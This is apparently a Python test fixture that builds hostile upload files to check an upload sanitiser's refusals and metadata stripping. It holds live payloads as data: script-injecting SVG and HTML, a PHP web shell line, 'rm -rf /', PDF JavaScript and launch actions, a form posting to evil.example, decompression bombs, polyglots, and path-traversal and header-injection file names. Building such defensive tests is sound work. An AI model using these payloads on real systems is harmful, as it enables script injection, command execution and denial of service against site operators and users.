"""Files that mean harm, made from what they are made of. Each says what must become of it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any, Final, NamedTuple

from PIL import Image, PngImagePlugin

from tests.support.scanner import EICAR

Check = Callable[[bytes], bool]
_SCRIPT: Final = b"<script>alert(document.domain)</script>"
_MIB: Final = 1024 * 1024


class Hostile(NamedTuple):
    """A file, and what becomes of it: `refused` is the code of the problem, else it is defused.

    What is left of a defused file satisfies `check`, and it is called `shown`.
    """

    title: str
    content: Any
    name: str
    declared: str | None = None
    refused: str | None = None
    shown: str | None = None
    check: Check | None = None


def corpus() -> Iterator[Hostile]:
    """Generate all of them."""
    yield from _pages()
    yield from _programs()
    yield from _broken_pictures()
    yield from _telling_pictures()
    yield from _polyglots()
    yield from _documents()
    yield from _films()
    yield from _lying_names()
    yield from _sizes()


def _pages() -> Iterator[Hostile]:
    active = "active-content"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield Hostile("SVG with a script", svg, "logo.svg", "image/svg+xml", active)
    yield Hostile("SVG after an XML prolog, called a picture", b"<?xml version='1.0'?>" + svg, "a.png", None, active)
    yield Hostile("page declared as text", b"<html>" + _SCRIPT, "a.txt", "text/plain", active)
    yield Hostile("page called a picture", b"<!doctype html>" + _SCRIPT, "a.jpg", "image/jpeg", active)
    yield Hostile("page behind much text", b"hello\n" * 5000 + _SCRIPT, "a.txt", "text/plain", active)
    yield Hostile("PHP", b"<?php system($_GET['c']); ?>", "a.txt", "text/plain", active)
    yield Hostile("text in UTF-16", "<script>".encode("utf-16"), "a.txt", "text/plain", "type-not-allowed")
    yield Hostile("text with NUL", b"abc\0<b>", "a.txt", "text/plain", "type-not-allowed")


def _programs() -> Iterator[Hostile]:
    refused = "type-not-allowed"
    yield Hostile("Windows program called a picture", b"MZ\x90\0" + bytes(60) + b"PE\0\0", "a.jpg", None, refused)
    yield Hostile("Linux program", b"\x7fELF\x02\x01\x01" + bytes(60), "a.png", None, refused)
    yield Hostile("shell script", b"#!/bin/sh\nrm -rf /\n", "a.txt", "text/plain", refused)
    yield Hostile("batch file", b"@echo off\r\ndel *.*\r\n", "a.txt", "text/plain", refused)
    yield Hostile("internet shortcut", b"[InternetShortcut]\nURL=file:///x\n", "a.txt", None, refused)
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "VBA".encode("utf-16-le")
    yield Hostile("Office document with macros (OLE)", ole, "invoice.doc", "application/msword", refused)
    macros = {"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": ole}
    yield Hostile("Office document with macros (ZIP)", _zip(macros), "invoice.docm", None, refused)
    yield Hostile("RTF", b"{\\rtf1\\ansi{\\object\\objdata 0105}}", "a.txt", "text/plain", refused)
    yield Hostile("zip bomb", _zip({"a": bytes(30 * _MIB)}), "photos.zip", "application/zip", refused)
    yield Hostile("EICAR test file", EICAR, "a.txt", "text/plain", "infected")
    yield Hostile("EICAR test file inside a text", b"hello\n" + EICAR + b"\n", "a.txt", "text/plain", "infected")


def _broken_pictures() -> Iterator[Hostile]:
    damaged, too_much = "file-unreadable", "file-too-complex"
    jpeg = picture("JPEG", noise=True)
    yield Hostile("truncated JPEG", jpeg[: len(jpeg) // 2], "a.jpg", None, damaged)
    yield Hostile("JPEG of a header only", jpeg[:4] + bytes(500), "a.jpg", None, damaged)
    yield Hostile("truncated PNG", picture("PNG", noise=True)[:-2000], "a.png", None, damaged)
    yield Hostile("PNG whose checksum is wrong", _png(10, 10, bytes(310), crc=7), "a.png", None, damaged)
    yield Hostile("PNG bomb", _png(30_000, 30_000, bytes(30_001 * 900)), "a.png", None, too_much)
    yield Hostile("PNG of 60 000 times 1", _png(60_000, 1, bytes(180_001)), "a.png", None, too_much)
    gif = picture("GIF")
    yield Hostile("GIF of 65 535 times 65 535", gif[:6] + b"\xff" * 4 + gif[10:], "a.gif", None, too_much)
    text = _png(10, 10, bytes(310), extra=(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(40 * _MIB))))
    yield Hostile("PNG with a bomb in its text", text, "a.png", None, damaged)


def _telling_pictures() -> Iterator[Hostile]:
    exif = Image.Exif()
    exif[0x010F] = "Telltale Phone"
    exif[0x0112] = 6
    exif.get_ifd(0x8825).update({1: "N", 2: (35.0, 53.0, 56.0)})
    turned = picture("JPEG", exif=exif)
    yield Hostile("JPEG that says where it was taken", turned, "a.jpg", check=_lacks(b"Telltale", b"Exif"))
    yield Hostile("JPEG that lies on its side", turned, "a.jpg", check=lambda raw: _opened(raw).size == (60, 90))
    yield Hostile("WebP that says where it was taken", picture("WEBP", exif=exif), "a.webp", check=_lacks(b"Telltale"))
    noted = picture("JPEG", comment=b"Telltale <?php evil(); ?>", xmp=b"<x:xmpmeta>Telltale</x:xmpmeta>")
    yield Hostile("JPEG with a script in its comment", noted, "a.jpg", check=_lacks(b"Telltale", b"<?php"))
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Telltale")
    yield Hostile("PNG with its author", picture("PNG", pnginfo=info), "a.png", check=_lacks(b"Telltale"))
    frames = [Image.new("P", (9, 9), n) for n in range(3)]
    moving = io.BytesIO()
    frames[0].save(moving, "GIF", save_all=True, append_images=frames[1:], comment=b"Telltale")
    still = "a.png"
    yield Hostile("GIF that moves", moving.getvalue(), "a.gif", None, None, still, _lacks(b"Telltale", b"GIF8"))


def _polyglots() -> Iterator[Hostile]:
    jar = _zip({"META-INF/MANIFEST.MF": b"Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"})
    gone = _lacks(b"Evil", b"PK\x03\x04", b"<script", b"%PDF")
    yield Hostile("GIF that is a JAR (GIFAR)", picture("GIF") + jar, "a.gif", None, None, "a.png", gone)
    yield Hostile("JPEG that is a ZIP", picture("JPEG") + jar, "a.jpg", check=gone)
    yield Hostile("PNG that is a page", picture("PNG") + _SCRIPT, "a.png", check=gone)
    yield Hostile("JPEG that is a PDF", picture("JPEG") + pdf(), "a.jpg", check=gone)
    yield Hostile("PDF that is a page", pdf(b"<html>" + _SCRIPT), "a.pdf", None, "active-content")
    yield Hostile("PDF that is a ZIP", pdf(b"") + jar + b"%%EOF", "a.pdf", None, "active-content")
    yield Hostile("PDF behind text", b"hello\n" + pdf(), "a.pdf", None, "type-mismatch")


def _documents() -> Iterator[Hostile]:
    active = "active-content"
    for title, more in (
        ("JavaScript", b"<</S/JavaScript/JS(app.alert(1))>>"),
        ("JavaScript by another spelling", b"<</S/J#61vaScr#69pt/JS(app.alert(1))>>"),
        ("a launch", b"<</S/Launch/F(cmd.exe)>>"),
        ("another file inside", b"<</Type/EmbeddedFile>>"),
        ("a form of XML", b"<</XFA[(a)]>>"),
        ("a form that sends itself", b"<</S/SubmitForm/F(http://evil.example)>>"),
        ("a password", b"<</Encrypt 5 0 R>>"),
        ("JavaScript in packed objects", packed_objects(b"1 0 <</S/JavaScript/JS(app.alert(1))>>")),
        ("packed objects in an odd packing", packed_objects(b"x", b"/Filter[/ASCIIHexDecode/FlateDecode]")),
    ):
        yield Hostile(f"PDF with {title}", pdf(more), "a.pdf", "application/pdf", active)
    bomb = pdf(packed_objects(bytes(70 * _MIB)))
    yield Hostile("PDF that unpacks to much", bomb, "a.pdf", None, "file-too-complex")
    yield Hostile("truncated PDF", pdf()[:-6], "a.pdf", None, "file-unreadable")


def _films() -> Iterator[Hostile]:
    place = box(b"udta", box(b"\xa9xyz", b"+35.8989+014.5146/Telltale"))
    film = box(b"ftyp", b"isom\0\0\2\0isommp41") + box(b"moov", box(b"mvhd", bytes(100)) + place) + box(b"mdat", b"x")
    yield Hostile("film that says where it was made", film, "a.mp4", "video/mp4", check=_lacks(b"Telltale", b"xyz"))
    yield Hostile("film with a ZIP at its end", film + _zip({"a": b"b"}), "a.mp4", None, "file-unreadable")
    yield Hostile("film cut short", film[:-1], "a.mp4", None, "file-unreadable")


def _lying_names() -> Iterator[Hostile]:
    jpeg = picture("JPEG")
    yield Hostile("PDF called a picture", pdf(), "a.jpg", None, "type-mismatch")
    yield Hostile("picture declared as PDF", jpeg, "a.jpg", "application/pdf", "type-mismatch")
    for title, name, shown in (
        ("two extensions", "photo.jpg.exe", "photo_jpg_exe.jpg"),
        ("a right-to-left override", "photo\u202egpj.exe", "photogpj_exe.jpg"),
        ("a path upwards", "../../../etc/passwd", "passwd.jpg"),
        ("a Windows path", "C:\\Windows\\system32\\evil.jpg", "evil.jpg"),
        ("NUL", "photo.exe\0.jpg", "photo_exe.jpg"),
        ("line breaks", "a\r\nSet-Cookie: x=1.jpg", "aSet-Cookie_ x=1.jpg"),
        ("markup", '"><img src=x onerror=alert(1)>.jpg', "___img src=x onerror=alert(1)_.jpg"),
        ("nothing but dots", "....", "file.jpg"),
        ("no end", "a" * 900 + ".jpg", "a" * 100 + ".jpg"),
    ):
        yield Hostile(f"name with {title}", jpeg, name, None, None, shown)


def _sizes() -> Iterator[Hostile]:
    yield Hostile("nothing", b"", "a.txt", None, "attachment-empty")
    yield Hostile("21 MiB, as declared", bytes(21 * _MIB), "a.txt", None, "body-too-large")
    yield Hostile("as much as one likes, undeclared", _endless, "a.txt", None, "body-too-large")


async def _endless() -> Any:
    for _ in range(200):
        yield b"text" * (_MIB // 4)


def picture(kind: str, size: tuple[int, int] = (90, 60), *, noise: bool = False, **more: Any) -> bytes:
    """Return a picture."""
    target = io.BytesIO()
    drawn = Image.effect_noise((400, 400), 50).convert("RGB") if noise else Image.new("RGB", size, "red")
    drawn.save(target, kind, **more)
    return target.getvalue()


def pdf(more: bytes = b"") -> bytes:
    """Return a document that says `more` in an object of its own."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        b"3 0 obj" + more + b"\nendobj\nxref\n0 1\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
    )


def packed_objects(plain: bytes, packing: bytes = b"/Filter/FlateDecode") -> bytes:
    """Return a stream of objects."""
    return b"<</Type/ObjStm/N 1/First 4" + packing + b">>stream\n" + zlib.compress(plain) + b"\nendstream"


def box(kind: bytes, content: bytes) -> bytes:
    """Return a box of a film."""
    return struct.pack(">I", 8 + len(content)) + kind + content


def _png(
    width: int, height: int, pixels: bytes, *, crc: int | None = None, extra: tuple[bytes, bytes] | None = None
) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        checksum = zlib.crc32(kind + content) if crc is None else crc
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", checksum)

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    between = chunk(*extra) if extra else b""
    return b"\x89PNG\r\n\x1a\n" + header + between + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")


def _zip(files: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return target.getvalue()


def _lacks(*words: bytes) -> Check:
    return lambda raw: not any(word in raw for word in words)


def _opened(raw: bytes) -> Image.Image:
    return Image.open(io.BytesIO(raw))
